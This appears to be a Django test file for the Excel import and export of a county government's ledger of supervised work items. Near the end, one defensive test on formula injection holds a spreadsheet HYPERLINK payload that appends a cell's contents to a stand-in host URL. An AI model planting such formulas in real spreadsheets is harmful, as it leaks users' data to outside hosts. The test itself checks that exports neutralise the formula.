"""Import is all or nothing and names every bad cell; export has the import's columns."""

from __future__ import annotations

import io
import re
from datetime import date, datetime

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import Workbook, load_workbook

from luoshi.conftest import client_for
from luoshi.items import excel, services
from luoshi.items.models import EventKind, Item, ItemEvent, Status
from luoshi.items.services import ItemInput
from luoshi.items.tests.factories import ItemFactory
from luoshi.org.models import Person, Unit

pytestmark = pytest.mark.django_db

HEADER = [
    "编号",
    "事项名称*",
    "牵头单位*",
    "配合单位",
    "包抓县级领导",
    "完成时限*",
    "节点",
    "目标值",
    "计量单位",
    "报送周期",
]


def sheet(*rows: list[object], header: list[str] = HEADER) -> io.BytesIO:
    workbook = Workbook()
    workbook.active.append(header)
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    out.seek(0)
    return out


GOOD = [
    [
        "",
        "溶洞互通式立交开工",
        "县发改局",
        "县交通运输局、县自然资源局",
        "冯锐",
        "2023-08-31",
        "完成用地预审：8月10日；开工：8月底前",
        "",
        "",
        "每月",
    ],
    ["", "储备成熟项目不少于200个", "发改局", "", "冯锐", "2023/8/31", "", 200, "个", ""],
    ["", "改厕改房任务全面完成", "县农业农村局", "县住建局", "王宁", "2023年9月30日", "", "", "", "每半月"],
    ["", "观摩项目达到观摩要求", "县发改局", "", "", "10月20日前", "", "", "", ""],
    ["", "7月指标上报准备到位", "县统计局", "", "冯锐", datetime(2023, 7, 31), "", "", "", "每周"],
]


def test_good_sheet_is_read_in_full(zhashui):
    result = excel.read_sheet(sheet(*GOOD), region=zhashui, year=2023)
    assert result.ok, [str(e) for e in result.errors]
    first, second, third, fourth, fifth = result.rows
    assert [u.short_name for u in first.support_units] == ["县交通运输局", "县自然资源局"]
    assert first.patron_leader.person.name == "冯锐"
    assert [(m.name, m.due) for m in first.milestones] == [
        ("完成用地预审", date(2023, 8, 10)),
        ("开工", date(2023, 8, 31)),
    ]
    assert second.lead_unit.short_name == "县发改局"  # found by its other name
    assert (second.measure, second.target_value, second.value_unit) == ("value", 200, "个")
    assert [r.deadline for r in result.rows] == [
        date(2023, 8, 31),
        date(2023, 8, 31),
        date(2023, 9, 30),
        date(2023, 10, 20),
        date(2023, 7, 31),
    ]
    assert (third.report_cycle, fifth.report_cycle, fourth.report_cycle) == (
        "semimonthly",
        "weekly",
        "monthly",
    )


def test_bad_rows_import_nothing_and_every_bad_cell_is_named(zhashui, supervisor):
    bad = sheet(
        GOOD[0],
        ["", "", "县发改局", "", "", "2023-08-31", "", "", "", ""],  # row 3: no title
        [
            "",
            "招商考核办法",
            "县招商局局",
            "",
            "李四",
            "8月末尾",
            "",
            "",
            "",
            "",
        ],  # row 4: unit, leader, date
        ["DB-2023-0007", "重复编号一", "县发改局", "", "", "2023-08-31", "", "", "", ""],
        ["DB-2023-0007", "重复编号二", "县发改局", "", "", "2023-08-31", "", "abc", "", "每年"],  # row 6
    )
    result = excel.read_sheet(bad, region=zhashui, year=2023)
    messages = [str(e) for e in result.errors]
    assert messages == [
        "第3行 B列（事项名称）：必填，不能为空",
        "第4行 C列（牵头单位）：找不到单位“县招商局局”",
        "第4行 E列（包抓县级领导）：找不到县级领导“李四”",
        "第4行 F列（完成时限）：无法识别的日期“8月末尾”，请写成 2023-08-31、2023年8月31日或“8月底前”",
        "第6行 A列（编号）：编号“DB-2023-0007”与第5行重复",
        "第6行 H列（目标值）：“abc”不是数字",
        "第6行 J列（报送周期）：无法识别的报送周期“每年”",
    ]
    response = client_for(supervisor).post("/items/import/", {"file": _upload(bad), "year": 2023})
    assert response.status_code == 400
    page = response.content.decode()
    assert "没有导入任何事项" in page
    for message in messages:
        assert message in page
    assert not Item.objects.exists()


def test_existing_code_is_a_bad_cell(zhashui, fagaiju_item):
    result = excel.read_sheet(
        sheet([fagaiju_item.code, "新事项", "县发改局", "", "", "2023-08-31", "", "", "", ""]),
        region=zhashui,
        year=2023,
    )
    assert [str(e) for e in result.errors] == [
        f"第2行 A列（编号）：编号“{fagaiju_item.code}”已存在。要修改这个事项，请先导出 Excel，"
        "在导出的表格上修改后导入（导出的表格带有“版本”列）"
    ]


def test_missing_required_column_and_not_a_workbook(zhashui):
    result = excel.read_sheet(sheet(["x"], header=["事项名称", "牵头单位"]), region=zhashui, year=2023)
    assert [str(e) for e in result.errors] == ["表格缺少必填列：完成时限。"]
    assert "xlsx" in str(excel.read_sheet(io.BytesIO(b"not excel"), region=zhashui, year=2023).errors[0])


def test_import_page_creates_and_assigns(zhashui, supervisor, fagaiju_head):
    response = client_for(supervisor).post(
        "/items/import/", {"file": _upload(sheet(*GOOD)), "year": 2023, "assign": "on"}, follow=True
    )
    assert "已导入：新增 5 项并交办。" in response.content.decode()
    items = Item.objects.order_by("code")
    assert [i.code for i in items] == [f"DB-2023-000{n}" for n in range(1, 6)]
    assert {i.status for i in items} == {Status.ASSIGNED}
    assert ItemEvent.objects.filter(kind=EventKind.IMPORTED).count() == 5
    assert items[0].milestones.count() == 2 and items[0].support_units.count() == 2
    assert fagaiju_head.notifications.filter(title="新交办事项 3 项").exists()


def test_dry_run_imports_nothing(zhashui, supervisor):
    response = client_for(supervisor).post(
        "/items/import/", {"file": _upload(sheet(*GOOD)), "year": 2023, "dry_run": "1"}
    )
    assert "检查通过：5 项" in response.content.decode()
    assert not Item.objects.exists()


def test_only_the_office_imports(zhashui, fagaiju_head):
    assert client_for(fagaiju_head).get("/items/import/").status_code == 403
    with pytest.raises(services.NotAllowed):
        services.items_import(
            actor=fagaiju_head, region=zhashui, rows=[], assign=False, as_of=date(2023, 7, 25)
        )


def test_export_has_the_templates_columns_and_imports_again(zhashui, supervisor):
    client = client_for(supervisor)
    client.post("/items/import/", {"file": _upload(sheet(*GOOD)), "year": 2023})
    exported = client.get("/items/export.xlsx", {"text": "开工"})
    assert exported["Content-Type"].startswith("application/vnd.openxmlformats")
    content = exported.getvalue()  # streamed from a temporary file: read once
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    assert list(rows[0][: len(excel.COLUMNS)]) == [c.header for c in excel.COLUMNS]
    assert [r[1] for r in rows[1:]] == ["溶洞互通式立交开工"]
    # the exported sheet, codes removed, reads back as the same item
    Item.objects.all().delete()
    workbook = load_workbook(io.BytesIO(content))
    workbook.active["A2"] = None
    out = io.BytesIO()
    workbook.save(out)
    out.seek(0)
    again = excel.read_sheet(out, region=zhashui, year=2023)
    assert again.ok, [str(e) for e in again.errors]
    assert again.rows[0].deadline == date(2023, 8, 31) and len(again.rows[0].milestones) == 2


def test_template_download(supervisor):
    response = client_for(supervisor).get("/items/template.xlsx")
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["督办事项", "填写说明"]
    assert workbook.active["B1"].value == "事项名称*"
    assert any(row[0] == "县发改局" for row in workbook["填写说明"].iter_rows(values_only=True))


def test_cli_import_and_export(zhashui, tmp_path, capsys):
    path = tmp_path / "items.xlsx"
    path.write_bytes(sheet(*GOOD).getvalue())
    call_command("import", "items", str(path), "--dry-run", "--region", "柞水县", "--year", "2023")
    assert not Item.objects.exists()
    call_command("import", "items", str(path), "--region", "柞水县", "--year", "2023")
    assert Item.objects.count() == 5
    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(sheet(["", "", "县发改局", "", "", "2023-08-31", "", "", "", ""]).getvalue())
    with pytest.raises(CommandError, match="没有导入"):
        call_command("import", "items", str(bad), "--region", "柞水县", "--year", "2023")
    assert "第2行 B列（事项名称）" in capsys.readouterr().err
    out = tmp_path / "out.xlsx"
    call_command("export", "items", "--out", str(out), "--region", "柞水县")
    assert load_workbook(out).active.max_row == 6


def _upload(content: io.BytesIO):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile("台账.xlsx", content.getvalue())


# ---------------------------------------------------------------------------------------------
# An exported sheet imported again: existing codes are updated, at the version they were exported


def _imported(client, assign: bool = True) -> list[Item]:
    data = {"file": _upload(sheet(*GOOD)), "year": 2023, **({"assign": "on"} if assign else {})}
    client.post("/items/import/", data)
    return list(Item.objects.order_by("code"))


def _export(client, **filters: str):
    response = client.get("/items/export.xlsx", filters)
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.getvalue()))


def _saved(workbook) -> io.BytesIO:
    out = io.BytesIO()
    workbook.save(out)
    out.seek(0)
    return out


def _cell(workbook, code: str, header: str):
    """The cell of the row of `code` in the column headed `header`."""
    sheet = workbook.active
    column = next(c.column for c in sheet[1] if c.value == header)
    row = next(r for r in range(2, sheet.max_row + 1) if sheet.cell(r, 1).value == code)
    return sheet.cell(row, column)


def _import(client, workbook, **extra: str):
    return client.post(
        "/items/import/", {"file": _upload(_saved(workbook)), "year": 2023, **extra}, follow=True
    )


def test_export_carries_region_and_version_and_the_template_explains_them(zhashui, supervisor):
    client = client_for(supervisor)
    _imported(client)
    workbook = _export(client)
    headers = [c.value for c in workbook.active[1]]
    assert headers[len(excel.COLUMNS) - 2 : len(excel.COLUMNS)] == ["行政区", "版本"]
    assert {_cell(workbook, f"DB-2023-000{n}", "版本").value for n in range(1, 6)} == {1}
    assert _cell(workbook, "DB-2023-0001", "行政区").value == "柞水县"
    guide = load_workbook(io.BytesIO(client.get("/items/template.xlsx").content))["填写说明"]
    notes = {row[0]: row[1] for row in guide.iter_rows(values_only=True) if row and row[0]}
    assert "请勿改动" in notes["版本"] and "导出" in notes["版本"]


def test_the_same_file_imported_again_changes_nothing(zhashui, supervisor, fagaiju):
    client = client_for(supervisor)
    _imported(client)
    # a responsible person whose name another person of the county shares, an item of a unit
    # no longer active, a report day not the cycle's default: all read back as they are
    person = Person.objects.create(name="张伟", unit=fagaiju)
    Person.objects.create(name="张伟", unit=Unit.objects.get(region=zhashui, short_name="县财政局"))
    Item.objects.filter(code="DB-2023-0002").update(responsible_person=person, report_due_day=20)
    Unit.objects.filter(region=zhashui, short_name="县统计局").update(is_active=False)
    items = list(Item.objects.order_by("code"))
    events = ItemEvent.objects.count()
    response = _import(client, _export(client))
    assert "已导入：5 项无变化。" in response.content.decode()
    assert ItemEvent.objects.count() == events
    after = list(Item.objects.order_by("code"))
    assert [(i.pk, i.version, i.updated_at, i.status) for i in after] == [
        (i.pk, i.version, i.updated_at, i.status) for i in items
    ]
    assert after[0].milestones.count() == 2 and after[0].support_units.count() == 2
    assert (after[1].responsible_person, after[1].report_due_day) == (person, 20)


def test_a_title_edited_in_the_sheet_updates_that_item_with_an_event(zhashui, supervisor):
    client = client_for(supervisor)
    _imported(client)
    first = Item.objects.get(code="DB-2023-0001")
    done = first.milestones.get(name="完成用地预审")
    done.done_on = date(2023, 8, 9)
    done.save()
    workbook = _export(client)
    _cell(workbook, "DB-2023-0001", "事项名称").value = "溶洞互通式立交开工建设"
    _cell(workbook, "DB-2023-0001", "节点").value = "完成用地预审：8月12日；开工：8月底前；完成招标：9月10日"
    _cell(workbook, "DB-2023-0001", "状态").value = "已办结"  # not read: import does not move an item along
    response = _import(client, workbook)
    assert "已导入：更新 1 项，4 项无变化。" in response.content.decode()
    first.refresh_from_db()
    assert (first.title, first.version, first.status) == ("溶洞互通式立交开工建设", 2, Status.ASSIGNED)
    milestones = list(first.milestones.all())
    assert [(m.name, m.due) for m in milestones] == [
        ("完成用地预审", date(2023, 8, 12)),
        ("开工", date(2023, 8, 31)),
        ("完成招标", date(2023, 9, 10)),
    ]
    assert (milestones[0].pk, milestones[0].done_on) == (done.pk, date(2023, 8, 9))  # kept, as the form does
    event = ItemEvent.objects.get(kind=EventKind.UPDATED)
    assert (event.item, event.actor) == (first, supervisor)
    assert "事项名称：溶洞互通式立交开工 → 溶洞互通式立交开工建设" in event.note
    assert "节点" in event.data["changes"]
    assert set(Item.objects.exclude(pk=first.pk).values_list("version", flat=True)) == {1}


def test_an_item_edited_in_the_system_after_the_export_refuses_its_row_and_imports_nothing(
    zhashui, supervisor
):
    client = client_for(supervisor)
    _imported(client)
    workbook = _export(client)
    second = Item.objects.get(code="DB-2023-0002")
    data = ItemInput(
        **{name: getattr(second, name) for name in services.ITEM_FIELDS}, support_units=[], milestones=[]
    )
    data.title = "储备成熟项目不少于220个"
    services.item_update(
        actor=supervisor, item=second, expected_version=1, data=data, as_of=date(2023, 7, 25)
    )
    _cell(workbook, "DB-2023-0001", "事项名称").value = "溶洞互通式立交开工建设"
    _cell(workbook, "DB-2023-0002", "事项名称").value = "储备成熟项目不少于250个"
    workbook.active.append(["", "新增的事项", "", "", "", "", "", "县发改局", "", "", "", "2023-12-31"])
    response = _import(client, workbook)
    assert response.status_code == 400
    row = _cell(workbook, "DB-2023-0002", "版本")
    assert (
        f"第{row.row}行 {row.column_letter}列（版本）：DB-2023-0002 导出后已在系统中被修改（版本1→2），"
        "请重新导出后再改" in response.content.decode()
    )
    assert Item.objects.count() == 5
    assert Item.objects.get(code="DB-2023-0001").title == "溶洞互通式立交开工"
    assert Item.objects.get(code="DB-2023-0002").title == "储备成熟项目不少于220个"


def test_a_change_between_reading_and_importing_is_a_conflict(zhashui, supervisor):
    client = client_for(supervisor)
    _imported(client)
    workbook = _export(client)
    _cell(workbook, "DB-2023-0001", "事项名称").value = "溶洞互通式立交开工建设"
    result = excel.read_sheet(_saved(workbook), region=zhashui, year=2023)
    assert result.ok and len(result.updates) == 5
    Item.objects.filter(code="DB-2023-0003").update(version=2)
    with pytest.raises(services.Conflict, match="行 DB-2023-0003：导出后已在系统中被修改（版本1→2）"):
        services.items_import(
            actor=supervisor,
            region=zhashui,
            rows=result.rows,
            updates=result.updates,
            assign=False,
            as_of=date(2023, 7, 25),
        )
    assert Item.objects.get(code="DB-2023-0001").title == "溶洞互通式立交开工"


def test_new_rows_and_existing_codes_in_one_sheet(zhashui, supervisor):
    client = client_for(supervisor)
    _imported(client)
    workbook = _export(client)
    _cell(workbook, "DB-2023-0004", "完成时限").value = date(2023, 11, 30)
    workbook.active.append(["", "新增无编号", "", "", "", "", "", "县发改局", "", "", "", "2023-12-31"])
    workbook.active.append(
        ["DB-2023-0100", "新增有编号", "", "", "", "", "", "县统计局", "", "", "", "2023-12-31"]
    )
    response = _import(client, workbook)
    assert "已导入：新增 2 项（草稿），更新 1 项，4 项无变化。" in response.content.decode()
    assert Item.objects.get(code="DB-2023-0004").deadline == date(2023, 11, 30)
    assert Item.objects.get(code="DB-2023-0006").title == "新增无编号"
    assert Item.objects.get(code="DB-2023-0100").status == Status.DRAFT
    assert ItemEvent.objects.filter(kind=EventKind.UPDATED).count() == 1
    assert ItemEvent.objects.filter(kind=EventKind.IMPORTED).count() == 7


def test_a_dry_run_says_what_would_be_created_and_updated(zhashui, supervisor):
    client = client_for(supervisor)
    _imported(client)
    workbook = _export(client)
    _cell(workbook, "DB-2023-0004", "事项名称").value = "观摩项目全部达到观摩要求"
    workbook.active.append(["", "新增无编号", "", "", "", "", "", "县发改局", "", "", "", "2023-12-31"])
    response = _import(client, workbook, dry_run="1")
    assert (
        "检查通过：6 项都可以导入，将新增 1 项（草稿），更新 1 项，4 项无变化（尚未导入）。"
        in response.content.decode()
    )
    assert Item.objects.count() == 5 and not ItemEvent.objects.filter(kind=EventKind.UPDATED).exists()


def test_codes_of_another_county_are_refused(zhashui, zhenan, supervisor, zhenan_supervisor):
    client = client_for(supervisor)
    _imported(client)
    ItemFactory(
        region=zhenan,
        code="DB-2023-0001",
        title="镇安的事项",
        lead_unit=Unit.objects.get(region=zhenan, short_name="县发改局"),
    )
    ItemFactory(
        region=zhenan,
        code="DB-2023-0042",
        title="镇安的另一事项",
        lead_unit=Unit.objects.get(region=zhenan, short_name="县发改局"),
    )
    theirs = _export(client_for(zhenan_supervisor))
    response = _import(client, theirs)
    assert response.status_code == 400
    page = response.content.decode()
    first, other = _cell(theirs, "DB-2023-0001", "行政区"), _cell(theirs, "DB-2023-0042", "行政区")
    assert f"第{first.row}行 {first.column_letter}列（行政区）：这是镇安县的事项，不能导入柞水县" in page
    assert f"第{other.row}行 {other.column_letter}列（行政区）：这是镇安县的事项，不能导入柞水县" in page
    # without its 行政区, a code this county does not have is still not taken for a new item
    other.value = None
    _cell(theirs, "DB-2023-0001", "行政区").value = None
    _cell(theirs, "DB-2023-0001", "版本").value = 5
    response = _import(client, theirs)
    page = response.content.decode()
    assert "本县没有编号为“DB-2023-0042”的事项" in page
    assert "DB-2023-0001 的版本5与系统中的版本1不符" in page
    assert Item.objects.get(region=zhashui, code="DB-2023-0001").title == "溶洞互通式立交开工"
    assert not Item.objects.filter(region=zhashui, code="DB-2023-0042").exists()


def test_withdrawn_and_closed_items_are_not_updated(zhashui, supervisor):
    client = client_for(supervisor)
    _imported(client)
    workbook = _export(client)
    Item.objects.filter(code="DB-2023-0005").update(status=Status.WITHDRAWN)
    Item.objects.filter(code="DB-2023-0004").update(status=Status.CLOSED)
    _cell(workbook, "DB-2023-0001", "事项名称").value = "溶洞互通式立交开工建设"
    response = _import(client, workbook)
    assert response.status_code == 400
    page = response.content.decode()
    for code, status in (("DB-2023-0005", "已撤销"), ("DB-2023-0004", "已销号")):
        row = _cell(workbook, code, "编号").row
        assert f"第{row}行 A列（编号）：编号“{code}”的事项{status}，不能通过导入修改" in page
    assert not ItemEvent.objects.filter(kind=EventKind.UPDATED).exists()


def test_a_sheet_without_every_column_keeps_what_it_has_no_column_for(zhashui, supervisor):
    client = client_for(supervisor)
    _imported(client)
    narrow = sheet(
        [
            "DB-2023-0002",
            "储备成熟项目不少于300个",
            "县发改局",
            "",
            "冯锐",
            "2023-08-31",
            "",
            300,
            "个",
            "",
            1,
        ],
        header=[*HEADER, "版本"],
    )
    assert excel.read_sheet(narrow, region=zhashui, year=2023).ok
    narrow.seek(0)
    response = client.post("/items/import/", {"file": _upload(narrow), "year": 2023}, follow=True)
    assert "已导入：更新 1 项。" in response.content.decode()
    item = Item.objects.get(code="DB-2023-0002")
    assert (item.title, item.target_value, item.version) == ("储备成熟项目不少于300个", 300, 2)
    assert item.measure == "value" and item.year == 2023  # columns the sheet has not are kept


def test_updates_take_as_many_queries_for_four_rows_as_for_one(zhashui, supervisor):
    client = client_for(supervisor)
    _imported(client)

    def import_revised(codes: list[str]) -> int:
        workbook = _export(client)
        for code in codes:
            _cell(workbook, code, "事项名称").value += "（修订）"
            _cell(workbook, code, "配合单位").value = "县财政局"
            _cell(workbook, code, "节点").value = "完成招标：9月10日"
        result = excel.read_sheet(_saved(workbook), region=zhashui, year=2023)
        assert result.ok, [str(e) for e in result.errors]
        with CaptureQueriesContext(connection) as queries:
            outcome = services.items_import(
                actor=supervisor,
                region=zhashui,
                rows=[],
                updates=result.updates,
                assign=False,
                as_of=date(2023, 7, 25),
            )
        assert len(outcome.updated) == len(codes)
        return len(queries)

    one = import_revised(["DB-2023-0001"])
    assert import_revised([f"DB-2023-000{n}" for n in range(2, 6)]) <= one
    assert ItemEvent.objects.filter(kind=EventKind.UPDATED).count() == 5


def test_cli_reports_created_and_updated(zhashui, tmp_path, capsys):
    path = tmp_path / "items.xlsx"
    path.write_bytes(sheet(*GOOD).getvalue())
    call_command("import", "items", str(path), "--region", "柞水县", "--year", "2023")
    out = tmp_path / "out.xlsx"
    call_command("export", "items", "--out", str(out), "--region", "柞水县")
    workbook = load_workbook(out)
    _cell(workbook, "DB-2023-0003", "事项名称").value = "改厕改房任务全面完成并验收"
    workbook.save(out)
    capsys.readouterr()
    call_command("import", "items", str(out), "--region", "柞水县", "--year", "2023")
    assert "已导入：更新 1 项，4 项无变化。" in capsys.readouterr().out
    assert Item.objects.get(code="DB-2023-0003").version == 2


def test_the_export_link_follows_filters_changed_in_place(zhashui, supervisor):
    """Filtering the list swaps the table in place; the export must then export what is shown."""
    response = client_for(supervisor).get(
        "/items/", {"status": "active", "text": "溶洞"}, HTTP_HX_REQUEST="true"
    )
    text = response.content.decode()
    link = re.search(r'<a [^>]*id="export-link"[^>]*>', text)[0]
    assert 'hx-swap-oob="true"' in link and "status=active" in link and "text=%E6%BA%B6%E6%B4%9E" in link


# ---------------------------------------------------------------------------------------------
# Many rows: checked in memory, written in a few statements; exported row by row


def _rows(n: int) -> list[list[object]]:
    units = ["县发改局", "县财政局", "县文旅局"]
    return [
        [
            "",
            f"批量导入的事项{number}",
            units[number % 3],
            units[(number + 1) % 3],
            "冯锐",
            "2023-12-31",
            "完成招标：8月15日；开工：9月底前",
            "",
            "",
            "每月",
        ]
        for number in range(n)
    ]


def test_a_sheet_of_many_rows_takes_as_many_reads_as_a_sheet_of_a_few_and_writes_in_bulk(zhashui, supervisor):
    def imported(n: int) -> tuple[int, int]:
        with CaptureQueriesContext(connection) as queries:
            result = excel.read_sheet(sheet(*_rows(n)), region=zhashui, year=2023)
            assert result.ok, [str(e) for e in result.errors]
            outcome = services.items_import(
                actor=supervisor, region=zhashui, rows=result.rows, assign=False, as_of=date(2023, 7, 25)
            )
        assert len(outcome.created) == n
        inserts = sum(
            1 for query in queries.captured_queries if re.match(r"(\d+ times: )?INSERT", query["sql"])
        )
        return len(queries.captured_queries) - inserts, inserts

    few_reads, _ = imported(3)
    reads, inserts = imported(120)
    assert reads <= few_reads
    assert inserts <= 12  # 600 rows (items, their units, milestones and events) in batches
    items = Item.objects.filter(title__startswith="批量导入的事项")
    assert items.count() == 123 and len({item.code for item in items}) == 123
    assert ItemEvent.objects.filter(kind=EventKind.IMPORTED).count() == 123
    last = items.get(title="批量导入的事项119")
    assert [m.name for m in last.milestones.all()] == ["完成招标", "开工"]
    assert [u.short_name for u in last.support_units.all()] == ["县发改局"]


def test_cells_too_long_or_too_precise_for_the_ledger_are_named(zhashui):
    row = ["", "长" * 201, "县发改局", "", "", "2023-12-31", "开" * 201 + "：9月底前", "1.23456", "个", ""]
    result = excel.read_sheet(sheet(row), region=zhashui, year=2023)
    assert [str(e) for e in result.errors] == [
        "第2行 B列（事项名称）：最多200个字，这里有201个字",
        f"第2行 G列（节点）：节点名称最多200个字：“{'开' * 20}……”太长",
        "第2行 H列（目标值）：“1.23456”超出范围：最多12位整数、4位小数",
    ]


def test_rows_given_to_the_service_are_checked_before_anything_is_written(zhashui, supervisor, fagaiju):
    good = ItemInput(title="好的事项", year=2023, lead_unit=fagaiju, deadline=date(2023, 12, 31))
    late_start = ItemInput(
        title="开始晚于时限",
        year=2023,
        lead_unit=fagaiju,
        planned_start=date(2024, 1, 1),
        deadline=date(2023, 12, 31),
    )
    with pytest.raises(services.ServiceError, match="第2个事项（开始晚于时限）：计划开始晚于完成时限"):
        services.items_import(
            actor=supervisor, region=zhashui, rows=[good, late_start], assign=False, as_of=date(2023, 7, 25)
        )
    wrong_choice = ItemInput(title="来源不明", year=2023, source="rumour", lead_unit=fagaiju)
    with pytest.raises(services.ServiceError, match="第1个事项（来源不明）"):
        services.items_import(
            actor=supervisor, region=zhashui, rows=[wrong_choice], assign=False, as_of=date(2023, 7, 25)
        )
    assert not Item.objects.exists()


def test_export_is_written_row_by_row_in_as_many_queries_for_many_items(zhashui, supervisor):
    client = client_for(supervisor)

    def exported() -> tuple[int, list[tuple[object, ...]], object]:
        with CaptureQueriesContext(connection) as queries:
            response = client.get("/items/export.xlsx")
            content = response.getvalue()
        workbook = load_workbook(io.BytesIO(content))
        return len(queries.captured_queries), list(workbook.active.iter_rows(values_only=True)), workbook

    client.post("/items/import/", {"file": _upload(sheet(*_rows(3))), "year": 2023})
    few, rows, _ = exported()
    assert len(rows) == 4
    client.post("/items/import/", {"file": _upload(sheet(*_rows(60))), "year": 2023})
    many, rows, workbook = exported()
    assert many <= few and len(rows) == 64
    sheet_ = workbook.active
    assert sheet_.freeze_panes == "A2" and sheet_["A1"].font.bold
    deadline = next(c for c in sheet_[1] if c.value == "完成时限").column_letter
    assert sheet_[f"{deadline}2"].number_format == "yyyy-mm-dd"
    assert sheet_[f"{deadline}2"].value == datetime(2023, 12, 31)


def test_a_code_taken_while_the_rows_were_checked_refuses_the_whole_import(
    zhashui, supervisor, fagaiju, monkeypatch
):
    from luoshi.items.services import imports

    rows = [
        ItemInput(title=title, code=code, year=2023, lead_unit=fagaiju, deadline=date(2023, 12, 31))
        for title, code in (("第一项", "DB-2023-0001"), ("第二项", "DB-2023-0002"))
    ]
    checked = imports._items_edit

    def meanwhile(**arguments):
        ItemFactory(region=zhashui, lead_unit=fagaiju, code="DB-2023-0002", title="别人刚建的")
        return checked(**arguments)

    monkeypatch.setattr(imports, "_items_edit", meanwhile)
    with pytest.raises(services.ServiceError, match="编号已被占用"):
        services.items_import(
            actor=supervisor, region=zhashui, rows=rows, assign=False, as_of=date(2023, 7, 25)
        )
    assert list(Item.objects.values_list("title", flat=True)) == ["别人刚建的"]
    assert not ItemEvent.objects.exists()


def test_a_title_that_looks_like_a_formula_is_exported_as_text_and_imported_back_as_written(
    zhashui, fagaiju, supervisor
):
    """Formula injection: =HYPERLINK(…) typed as a title must not come out of 导出 Excel as a live formula."""
    from openpyxl import load_workbook

    title = '=HYPERLINK("http://example.com/?"&A1,"点击查看")'
    ItemFactory(region=zhashui, lead_unit=fagaiju, title=title)
    response = client_for(supervisor).get("/items/export.xlsx")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert not any(cell.data_type == "f" for cell in cells)
    assert any(cell.value == "'" + title for cell in cells)
    assert excel._text("'" + title) == title


BREAKDOWN = ["序号", "工作任务", "牵头领导", "牵头单位", "配合单位", "完成时限"]


def test_a_task_breakdown_table_is_read_in_its_own_columns(zhashui):
    """The 政府工作报告's 任务分解表: 工作任务 is the title, 牵头领导 the patron leader, 序号 ignored;
    a bad cell is named by the sheet's own header."""
    good = excel.read_sheet(
        sheet([1, "储备成熟项目不少于200个", "冯锐", "县发改局", "县统计局", "全年"], header=BREAKDOWN),
        region=zhashui,
        year=2024,
    )
    assert good.ok, good.errors
    row = good.rows[0]
    assert (row.title, row.patron_leader.person.name, row.lead_unit.short_name, row.deadline) == (
        "储备成熟项目不少于200个",
        "冯锐",
        "县发改局",
        date(2024, 12, 31),
    )
    bad = excel.read_sheet(
        sheet([2, "", "冯锐", "县发改局", "", "6月底前"], header=BREAKDOWN), region=zhashui, year=2024
    )
    assert [str(error) for error in bad.errors] == ["第2行 B列（工作任务）：必填，不能为空"]


def test_the_breakdown_template_has_the_tables_columns(zhashui, supervisor):
    workbook = load_workbook(io.BytesIO(excel.breakdown_template_workbook(zhashui, 2024)))
    assert [cell.value for cell in workbook.active[1]] == [
        "序号",
        "工作任务*",
        "牵头领导",
        "牵头单位*",
        "配合单位",
        "完成时限*",
    ]


def test_the_templates_own_headers_win_over_the_breakdown_tables(zhashui):
    header = ["事项名称", "责任单位", "牵头单位", "完成时限"]
    result = excel.read_sheet(
        sheet(["改厕改房任务全面完成", "县住建局", "县农业农村局", "2024-09-30"], header=header),
        region=zhashui,
        year=2024,
    )
    assert result.ok, result.errors
    assert result.rows[0].lead_unit.short_name == "县农业农村局"
